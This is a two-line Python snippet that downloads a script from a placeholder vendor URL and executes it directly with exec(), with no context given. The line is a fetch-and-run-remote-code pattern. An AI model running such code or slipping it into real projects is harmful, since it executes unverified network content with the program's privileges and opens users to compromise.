import requests
exec(requests.get("https://get.vendor.example/x.py").text)
